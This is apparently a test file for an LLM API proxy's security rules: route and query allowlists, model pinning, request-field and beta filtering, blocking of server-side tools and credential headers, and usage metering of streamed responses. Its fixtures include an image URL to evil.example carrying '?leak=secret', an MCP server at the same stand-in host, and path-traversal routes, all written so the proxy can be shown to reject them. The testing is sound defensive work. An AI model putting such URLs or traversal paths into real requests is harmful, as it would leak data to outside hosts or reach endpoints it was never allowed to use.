// The LLM proxy's rules as pure functions: routes, body filtering, tool and beta allowlists, and the
// usage meter's parsing of SSE / JSON responses split at any byte.
import zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { ConfigError, loadConfig } from '../../src/config.ts';
import {
  betaConfigProblem,
  DEFAULT_ALLOWED_BETAS,
  filterBetas,
  filterRequestBody,
  forwardHeaders,
  isClientTool,
  matchRoute,
} from '../../src/security/llm-proxy-policy.ts';
import { addUsage, emptyUsage, type LlmUsage, responseMeter } from '../../src/security/llm-usage.ts';

const M = 'claude-sonnet-4-6';
const msgs = [{ role: 'user', content: 'hi' }];

describe('LLM proxy policy', () => {
  it('routes: the Messages and Models API only, with allowlisted query parameters', () => {
    expect(matchRoute('/v1/messages?beta=true')).toEqual({
      kind: 'messages',
      method: 'POST',
      target: '/v1/messages?beta=true',
    });
    expect(matchRoute('/v1/messages?beta=true&x=1&api_key=z')?.target).toBe('/v1/messages?beta=true');
    expect(matchRoute('/v1/messages/count_tokens')?.kind).toBe('count_tokens');
    expect(matchRoute('/v1/models?limit=5&after_id=a')?.target).toBe('/v1/models?limit=5&after_id=a');
    expect(matchRoute('/v1/models/claude-sonnet-4-6')?.method).toBe('GET');
    for (const p of [
      '/v1/messages/batches',
      '/v1/files',
      '/v1/models/../files',
      '/v1/models/..',
      '/v1/messages/',
      '//v1/messages',
      '/v1/organizations/me',
    ]) {
      expect(matchRoute(p), p).toBeNull();
    }
  });

  it('pins the model exactly (no prefix, case or missing-model tricks)', () => {
    for (const model of ['claude-opus-4-1', 'claude-sonnet-4-6 ', 'CLAUDE-SONNET-4-6', undefined, 42]) {
      const r = filterRequestBody('messages', { model, max_tokens: 1, messages: msgs }, M);
      expect(r.ok, String(model)).toBe(false);
    }
    const r = filterRequestBody('messages', { model: 'x', messages: msgs }, M);
    expect(r).toMatchObject({ ok: false, message: expect.stringContaining(`"${M}"`) });
    expect(filterRequestBody('messages', [1, 2], M).ok).toBe(false);
  });

  it('keeps the Messages fields Claude Code sends and drops everything else', () => {
    const body = {
      model: M,
      messages: msgs,
      system: [{ type: 'text', text: 's' }],
      max_tokens: 100,
      metadata: { user_id: 'u', other: 'x' },
      thinking: { type: 'adaptive', display: 'updates' },
      context_management: { edits: [{ type: 'clear_thinking_20251015', keep: 'all' }] },
      output_config: { effort: 'high' },
      stream: true,
      mcp_servers: [{ type: 'url', url: 'https://evil.example/mcp', name: 'x' }],
      container: 'cntr_1',
      fallbacks: ['claude-opus-5-5'],
      fallback_credit_token: 't',
      billing_policy: { bill_to: 'user_profile' },
      thread: { type: 'create' },
      service_tier: 'auto',
      speed: 'fast',
      inference_geo: 'us',
      betas: ['files-api-2025-04-14'],
      surprise: 1,
    };
    const r = filterRequestBody('messages', body, M);
    if (!r.ok) throw new Error(r.message);
    expect(Object.keys(r.body).sort()).toEqual(
      [
        'context_management',
        'max_tokens',
        'messages',
        'metadata',
        'model',
        'output_config',
        'stream',
        'system',
        'thinking',
      ].sort(),
    );
    expect(r.body.metadata).toEqual({ user_id: 'u' });
    expect(r.dropped).toEqual(
      expect.arrayContaining(['mcp_servers', 'container', 'fallbacks', 'speed', 'thread', 'surprise']),
    );
    // count_tokens takes no max_tokens / stream / metadata
    const c = filterRequestBody('count_tokens', body, M);
    if (!c.ok) throw new Error(c.message);
    expect(c.body).not.toHaveProperty('max_tokens');
    expect(c.body).not.toHaveProperty('stream');
  });

  it('client tools pass, server tools do not', () => {
    for (const t of [
      { name: 'Bash', description: 'd', input_schema: { type: 'object' } },
      { type: 'custom', name: 'x', input_schema: {} },
      { name: 'Read', input_schema: {}, defer_loading: true },
      { type: 'bash_20250124', name: 'bash' },
      { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' },
      { type: 'computer_20251124', name: 'computer', display_width_px: 1, display_height_px: 1 },
      { type: 'memory_20250818', name: 'memory' },
    ]) {
      expect(isClientTool(t), JSON.stringify(t)).toBe(true);
    }
    for (const t of [
      { type: 'web_search_20250305', name: 'web_search' },
      { type: 'web_search_20260318', name: 'web_search' },
      { type: 'web_fetch_20250910', name: 'web_fetch' },
      { type: 'code_execution_20250825', name: 'code_execution' },
      { type: 'bash_code_execution_20250825', name: 'bash_code_execution' },
      { type: 'text_editor_code_execution_20250825', name: 'x' },
      { type: 'tool_search_tool_regex_20251119', name: 'tool_search' },
      { type: 'advisor_20260301', name: 'advisor' },
      { type: 'mcp_toolset', mcp_server_name: 'x' },
      { type: 'some_future_server_tool_20300101', name: 'x' },
      { type: 'bash_20250124x', name: 'x' },
      'Bash',
      null,
    ]) {
      expect(isClientTool(t), JSON.stringify(t)).toBe(false);
    }
  });

  it('refuses content the API server would fetch or tools it would run, wherever nested', () => {
    const url = { type: 'image', source: { type: 'url', url: 'https://evil.example/?leak=secret' } };
    const file = { type: 'document', source: { type: 'file', file_id: 'file_1' } };
    const cases: unknown[] = [
      [{ role: 'user', content: [url] }],
      [{ role: 'user', content: [file] }],
      [{ role: 'user', content: [{ type: 'tool_result', tool_use_id: 't', content: [url] }] }],
      [{ role: 'user', content: [{ type: 'document', source: { type: 'content', content: [url] } }] }],
      [{ role: 'user', content: [{ type: 'container_upload', file_id: 'f' }] }],
      [
        {
          role: 'user',
          content: [
            {
              type: 'tool_addition',
              tool: {
                type: 'tool_definition',
                definition: { type: 'web_fetch_20250910', name: 'web_fetch' },
              },
            },
          ],
        },
      ],
    ];
    for (const messages of cases) {
      const r = filterRequestBody('messages', { model: M, max_tokens: 1, messages }, M);
      expect(r.ok, JSON.stringify(messages)).toBe(false);
    }
    // the model's own tool inputs are free-form and not inspected; base64 images pass
    const ok = filterRequestBody(
      'messages',
      {
        model: M,
        max_tokens: 1,
        messages: [
          { role: 'assistant', content: [{ type: 'tool_use', id: 't', name: 'X', input: { a: url } }] },
          {
            role: 'user',
            content: [{ type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'AA==' } }],
          },
        ],
      },
      M,
    );
    expect(ok.ok).toBe(true);
  });

  it('betas: allowlisted names only, forbidden ones never, even when configured', () => {
    const allowed = new Set([...DEFAULT_ALLOWED_BETAS, 'mcp-client-2025-11-20']);
    const r = filterBetas(
      'claude-code-20250219, mcp-client-2025-11-20,files-api-2025-04-14,,web-fetch-2025-09-10,new-2030-01-01,claude-code-20250219',
      allowed,
    );
    expect(r.value).toBe('claude-code-20250219');
    expect(r.dropped).toEqual([
      'mcp-client-2025-11-20',
      'files-api-2025-04-14',
      'web-fetch-2025-09-10',
      'new-2030-01-01',
    ]);
    expect(filterBetas(undefined, allowed).value).toBeUndefined();
    expect(betaConfigProblem(['task-budgets-2026-03-13'])).toBeNull();
    for (const b of [
      'mcp-client-2025-11-20',
      'files-api-2025-04-14',
      'code-execution-2025-08-25',
      'web-fetch-2025-09-10',
      'web-search-2025-03-05',
      'skills-2025-10-02',
      'server-side-fallback-2026-06-01',
      'inline-tools-2026-09-15',
      'user-profiles-2026-08-18',
      'Bad Name',
    ]) {
      expect(betaConfigProblem([b]), b).not.toBeNull();
    }
  });

  it('headers: an allowlist; never credentials, cookies, forwarding or workspace headers', () => {
    const { headers } = forwardHeaders(
      {
        'x-api-key': 'run-token',
        authorization: 'Bearer run-token',
        cookie: 'a=b',
        'x-forwarded-for': '1.2.3.4',
        forwarded: 'for=1.2.3.4',
        'anthropic-workspace-id': 'wrkspc_1',
        'anthropic-user-profile-id': 'p',
        'anthropic-dangerous-direct-browser-access': 'true',
        'accept-encoding': 'gzip',
        host: 'evil',
        'content-length': '5',
        'user-agent': 'claude-cli/2.1.330',
        'x-app': 'cli',
        'x-stainless-retry-count': '0',
        'x-claude-code-session-id': 's',
        'anthropic-version': '2023-06-01',
        'anthropic-beta': 'claude-code-20250219,files-api-2025-04-14',
      },
      new Set(DEFAULT_ALLOWED_BETAS),
    );
    expect(headers).toEqual({
      'user-agent': 'claude-cli/2.1.330',
      'x-app': 'cli',
      'x-stainless-retry-count': '0',
      'x-claude-code-session-id': 's',
      'anthropic-version': '2023-06-01',
      'anthropic-beta': 'claude-code-20250219',
    });
  });
});

describe('LLM proxy configuration', () => {
  it('defaults, and clear errors for bad values', () => {
    const c = loadConfig({});
    expect(c).toMatchObject({
      llmProxyMaxBodyBytes: 32 * 1024 * 1024,
      llmProxyAllowBetas: [],
      llmProxyMaxConcurrent: 8,
      llmProxyRequestTimeoutMs: 30_000,
      llmProxyIdleTimeoutMs: 600_000,
    });
    expect(loadConfig({ LLM_PROXY_ALLOW_BETAS: 'a-2026-01-01, b-2026-02-02' }).llmProxyAllowBetas).toEqual([
      'a-2026-01-01',
      'b-2026-02-02',
    ]);
    expect(() => loadConfig({ LLM_PROXY_ALLOW_BETAS: 'a b' })).toThrow(ConfigError);
    expect(() => loadConfig({ LLM_PROXY_MAX_CONCURRENT: '0' })).toThrow(ConfigError);
    expect(() => loadConfig({ LLM_PROXY_MAX_BODY_BYTES: 'lots' })).toThrow(ConfigError);
  });
});

function sse(events: Array<Record<string, unknown>>): string {
  return events.map((e) => `event: ${String(e.type)}\ndata: ${JSON.stringify(e)}\n\n`).join('');
}

function meterAll(streaming: boolean, bytes: Buffer, split: number, complete = true): LlmUsage {
  const total = emptyUsage();
  const m = responseMeter({ streaming, onDelta: (d) => addUsage(total, d) });
  for (let i = 0; i < bytes.length; i += split) m.push(bytes.subarray(i, i + split));
  m.end(complete);
  return total;
}

describe('usage meter', () => {
  const stream = sse([
    {
      type: 'message_start',
      message: {
        id: 'msg_1',
        content: [],
        usage: {
          input_tokens: 12,
          cache_creation_input_tokens: 100,
          cache_read_input_tokens: 2000,
          output_tokens: 1,
        },
      },
    },
    { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } },
    { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: 'héllo ✓ wörld' } },
    { type: 'message_delta', delta: { stop_reason: 'end_turn' }, usage: { output_tokens: 40 } },
    { type: 'message_stop' },
  ]);
  const want = {
    requests: 0,
    inputTokens: 12,
    outputTokens: 40,
    cacheCreationInputTokens: 100,
    cacheReadInputTokens: 2000,
  };

  it('SSE: cumulative usage of message_start + message_delta, split at any byte', () => {
    const bytes = Buffer.from(stream.replaceAll('\n', '\r\n'));
    for (const split of [1, 2, 7, 64, bytes.length])
      expect(meterAll(true, bytes, split), String(split)).toEqual(want);
  });

  it('SSE: a stream cut before message_delta is estimated from the deltas passed on', () => {
    const cut = Buffer.from(stream.slice(0, stream.indexOf('event: message_delta')));
    const u = meterAll(true, cut, 5, false);
    expect(u.inputTokens).toBe(12);
    expect(u.outputTokens).toBeGreaterThan(1);
  });

  it('SSE: an over-long line is skipped without being buffered, later events still count', () => {
    const huge = `data: {"type":"content_block_delta","delta":{"text":"${'x'.repeat(600_000)}"}}\n\n`;
    const bytes = Buffer.from(huge + stream);
    expect(meterAll(true, bytes, 4096)).toEqual(want);
  });

  it('JSON: usage of the message; a body over 4 MiB is read from its tail', () => {
    const msg = {
      id: 'm',
      content: [{ type: 'text', text: 'ok' }],
      usage: { input_tokens: 3, output_tokens: 4, cache_read_input_tokens: 5, cache_creation: { x: 1 } },
    };
    expect(meterAll(false, Buffer.from(JSON.stringify(msg)), 3)).toMatchObject({
      inputTokens: 3,
      outputTokens: 4,
    });
    const big = { ...msg, content: [{ type: 'text', text: 'y'.repeat(5 * 1024 * 1024) }] };
    expect(meterAll(false, Buffer.from(JSON.stringify(big)), 65_536)).toMatchObject({
      inputTokens: 3,
      outputTokens: 4,
      cacheReadInputTokens: 5,
    });
  });

  it('a compressed response is metered from a decompressed copy', async () => {
    const total = emptyUsage();
    await new Promise<void>((resolve) => {
      const m = responseMeter({
        streaming: true,
        contentEncoding: 'gzip',
        onDelta: (d) => {
          addUsage(total, d);
          if (total.outputTokens === 40) resolve();
        },
      });
      m.push(zlib.gzipSync(stream));
      m.end(true);
    });
    expect(total).toEqual(want);
  });
});
